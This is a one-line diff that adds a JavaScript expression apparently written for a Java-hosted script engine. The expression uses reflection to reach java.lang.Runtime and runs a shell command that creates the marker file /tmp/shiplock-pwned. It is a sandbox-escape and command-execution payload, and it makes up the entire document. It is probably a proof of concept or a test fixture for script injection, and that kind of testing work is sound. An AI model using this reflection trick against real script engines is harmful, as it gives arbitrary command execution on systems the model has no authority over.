@@ -1,0 +1,1 @@
+var c = new java.util.ArrayList().getClass(); c.forName("java.lang.Runtime").getRuntime().exec("touch /tmp/shiplock-pwned");
